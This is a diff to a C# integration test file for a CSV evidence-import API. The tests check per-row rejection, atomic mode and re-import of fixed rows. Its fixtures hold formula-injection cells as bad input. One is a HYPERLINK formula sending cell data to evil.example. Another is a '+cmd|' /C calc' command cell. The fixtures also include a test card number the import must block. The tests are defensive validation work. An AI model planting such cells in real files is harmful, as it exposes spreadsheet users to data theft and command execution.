@@ -145,9 +145,10 @@ public sealed class ImportApiTests(ImportApiTests.Fixture fixture) : IClassFixtu
         { "invalid utf-8", "prompt,answer,timestamp\np,caf\u00e9,2026-03-01\n", 2, null, "not valid UTF-8" },
     };
 
+    // With ?atomic=true a file with any refused row is refused whole (the default imports its good rows: below).
     [Theory]
     [MemberData(nameof(ErrorFiles))]
-    public async Task An_invalid_file_is_422_with_row_and_column_and_nothing_is_imported(string name, string csv, int row, string? column, string message)
+    public async Task An_atomic_import_of_an_invalid_file_is_422_with_row_and_column_and_nothing_is_imported(string name, string csv, int row, string? column, string message)
     {
         var slug = await fixture.SystemAsync("import-error-" + name.Replace(' ', '-').Replace("-8", "8", StringComparison.Ordinal), "owner@example.org");
         var bytes = Encoding.UTF8.GetBytes(csv);
@@ -155,7 +156,7 @@ public sealed class ImportApiTests(ImportApiTests.Fixture fixture) : IClassFixtu
         var metrics = await MetricsAsync(slug);
         var audit = await AuditCountAsync();
 
-        var response = await PostAsync(fixture.Owner, slug, bytes);
+        var response = await PostAsync(fixture.Owner, slug, bytes, atomic: true);
         var body = await response.Content.ReadAsStringAsync();
         Assert.True(response.StatusCode == HttpStatusCode.UnprocessableEntity, $"{name}: {(int)response.StatusCode} {body}");
         Assert.Equal("application/problem+json", response.Content.Headers.ContentType?.MediaType);
@@ -167,6 +168,109 @@ public sealed class ImportApiTests(ImportApiTests.Fixture fixture) : IClassFixtu
         Assert.Contains(message, error.GetProperty("message").GetString(), StringComparison.Ordinal);
 
         Assert.Equal(Strip(metrics), Strip(await MetricsAsync(slug)));
+        Assert.Equal(audit, await AuditCountAsync());
+        await using var db = fixture.Db();
+        Assert.Equal(0, await db.Interactions.CountAsync(i => i.System == slug));
+    }
+
+    [Fact]
+    public async Task Bad_rows_are_refused_by_row_with_their_reason_while_the_good_rows_land_and_a_fixed_file_adds_only_them()
+    {
+        var slug = await fixture.SystemAsync("import-partial", "owner@example.org", """
+              dataBoundary:
+                block: [credit_card]
+            """);
+        var huge = new string('x', Core.Import.EvidenceCsv.MaxFieldChars + 1);
+        string[] good =
+        [
+            "Where is parcel 1?,It left on Monday.,2026-03-02T09:00:00Z,accepted",
+            "Where is parcel 2?,It left on Tuesday.,2026-03-02T09:10:00Z,rejected",
+            "Opening hours?,9 to 5.,2026-03-04T08:00:00Z,",
+        ];
+        // Line 3: a formula cell; 5: a field over the limit; 6: a column short; 7: not UTF-8; 9: a card number the boundary blocks.
+        string[] bad =
+        [
+            "\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"help\"\")\",Click it.,2026-03-02T09:05:00Z,accepted",
+            "Long one,\"" + huge + "\",2026-03-02T09:20:00Z,accepted",
+            "Short row,2026-03-02T09:30:00Z,accepted",
+            "Caf\u00e9 order?,Ready.,2026-03-02T09:40:00Z,accepted",
+            "charge 4111 1111 1111 1111,Charged.,2026-03-02T09:50:00Z,accepted",
+        ];
+        string[] fixedRows =
+        [
+            "'=HYPERLINK(help),Click it.,2026-03-02T09:05:00Z,accepted",
+            "Long one,Shorter.,2026-03-02T09:20:00Z,accepted",
+            "Short row,Now complete.,2026-03-02T09:30:00Z,accepted",
+            "Caf\u00e9 order?,Ready.,2026-03-02T09:40:00Z,accepted",
+            "charge the card on file,Charged.,2026-03-02T09:50:00Z,accepted",
+        ];
+        byte[] File(string[] rows, bool latin1Line7)
+        {
+            var bytes = new List<byte>(Encoding.UTF8.GetBytes("prompt,answer,timestamp,outcome\n"));
+            foreach (var r in rows) bytes.AddRange((latin1Line7 && r.StartsWith("Caf", StringComparison.Ordinal) ? Encoding.Latin1 : Encoding.UTF8).GetBytes(r + "\n"));
+            return [.. bytes];
+        }
+        var first = File([good[0], bad[0], good[1], bad[1], bad[2], bad[3], good[2], bad[4]], latin1Line7: true);
+        var audit = await AuditCountAsync();
+
+        var response = await PostAsync(fixture.Owner, slug, first);
+        var body = await response.Content.ReadAsStringAsync();
+        Assert.True(response.StatusCode == HttpStatusCode.OK, body);
+        using (var result = JsonDocument.Parse(body))
+        {
+            var root = result.RootElement;
+            Assert.Equal((8, 3, 0, 5), (root.GetProperty("rows").GetInt32(), root.GetProperty("imported").GetInt32(), root.GetProperty("alreadyPresent").GetInt32(), root.GetProperty("rejected").GetInt32()));
+            var errors = root.GetProperty("errors").EnumerateArray().Select(e => (e.GetProperty("row").GetInt32(), e.GetProperty("column").GetString(), e.GetProperty("message").GetString()!)).ToList();
+            Assert.Equal([(3, "prompt"), (5, "answer"), (6, null), (7, null), (9, "prompt")], errors.Select(e => (e.Item1, e.Item2)));
+            Assert.Contains("runs as a formula", errors[0].Item3, StringComparison.Ordinal);
+            Assert.Contains("at most 1,048,576", errors[1].Item3, StringComparison.Ordinal);
+            Assert.Contains("expected 4 fields (as in the header), found 3", errors[2].Item3, StringComparison.Ordinal);
+            Assert.Contains("not valid UTF-8 (byte 4 of line 7)", errors[3].Item3, StringComparison.Ordinal);
+            Assert.Contains("credit_card", errors[4].Item3, StringComparison.Ordinal);
+            // The blocked value is named by its detector, never echoed.
+            Assert.DoesNotContain("4111", body, StringComparison.Ordinal);
+        }
+        Assert.Equal(audit + 1, await AuditCountAsync());
+        await using (var db = fixture.Db())
+        {
+            var stored = await db.Interactions.AsNoTracking().Where(i => i.System == slug).Select(i => i.RequestContent).ToListAsync();
+            Assert.Equal(["Opening hours?", "Where is parcel 1?", "Where is parcel 2?"], stored.Order(StringComparer.Ordinal));
+            Assert.Equal(2, await db.Reviews.CountAsync(r => r.System == slug));
+        }
+        var samples = (await MetricsAsync(slug)).GetProperty("samples").GetProperty("value").GetDouble();
+        Assert.Equal(3, samples);
+
+        // The same file, refused rows fixed: only they are recorded; the good rows are already there.
+        var again = await PostAsync(fixture.Owner, slug, File([good[0], fixedRows[0], good[1], fixedRows[1], fixedRows[2], fixedRows[3], good[2], fixedRows[4]], latin1Line7: false));
+        var againBody = await again.Content.ReadAsStringAsync();
+        Assert.True(again.StatusCode == HttpStatusCode.OK, againBody);
+        using (var result = JsonDocument.Parse(againBody))
+        {
+            var root = result.RootElement;
+            Assert.Equal((8, 5, 3, 0), (root.GetProperty("rows").GetInt32(), root.GetProperty("imported").GetInt32(), root.GetProperty("alreadyPresent").GetInt32(), root.GetProperty("rejected").GetInt32()));
+            Assert.Empty(root.GetProperty("errors").EnumerateArray());
+        }
+        await using (var db = fixture.Db())
+        {
+            Assert.Equal(8, await db.Interactions.CountAsync(i => i.System == slug));
+            Assert.Equal(7, await db.Reviews.CountAsync(r => r.System == slug));
+        }
+        var metrics = await MetricsAsync(slug);
+        Assert.Equal(8, metrics.GetProperty("samples").GetProperty("value").GetDouble());
+        Assert.Equal(7, metrics.GetProperty("acceptance_rate").GetProperty("n").GetInt64());
+    }
+
+    [Fact]
+    public async Task A_file_whose_every_row_is_refused_is_422_and_nothing_is_imported()
+    {
+        var slug = await fixture.SystemAsync("import-all-bad", "owner@example.org");
+        var audit = await AuditCountAsync();
+        var response = await PostAsync(fixture.Owner, slug, Encoding.UTF8.GetBytes("prompt,answer,timestamp\n@SUM(1+1),a,2026-03-01\np,+cmd|' /C calc'!A0,2026-03-01\n"));
+        var body = await response.Content.ReadAsStringAsync();
+        Assert.True(response.StatusCode == HttpStatusCode.UnprocessableEntity, body);
+        using var problem = JsonDocument.Parse(body);
+        Assert.Contains("all 2 row(s) were refused; nothing was imported", problem.RootElement.GetProperty("detail").GetString(), StringComparison.Ordinal);
+        Assert.Equal([(2, "prompt"), (3, "answer")], problem.RootElement.GetProperty("errors").EnumerateArray().Select(e => (e.GetProperty("row").GetInt32(), e.GetProperty("column").GetString())));
         Assert.Equal(audit, await AuditCountAsync());
         await using var db = fixture.Db();
         Assert.Equal(0, await db.Interactions.CountAsync(i => i.System == slug));
@@ -241,11 +345,11 @@ public sealed class ImportApiTests(ImportApiTests.Fixture fixture) : IClassFixtu
         Assert.True(response.StatusCode == HttpStatusCode.OK, await response.Content.ReadAsStringAsync());
     }
 
-    private static async Task<HttpResponseMessage> PostAsync(HttpClient client, string slug, byte[] bytes)
+    private static async Task<HttpResponseMessage> PostAsync(HttpClient client, string slug, byte[] bytes, bool atomic = false)
     {
         var content = new ByteArrayContent(bytes);
         content.Headers.ContentType = new MediaTypeHeaderValue("text/csv");
-        using var request = new HttpRequestMessage(HttpMethod.Post, $"/api/v1/systems/{slug}/import") { Content = content };
+        using var request = new HttpRequestMessage(HttpMethod.Post, $"/api/v1/systems/{slug}/import{(atomic ? "?atomic=true" : "")}") { Content = content };
         // Lets the server refuse an oversized file before it is sent.
         request.Headers.ExpectContinue = bytes.Length > 1024 * 1024;
         return await client.SendAsync(request);
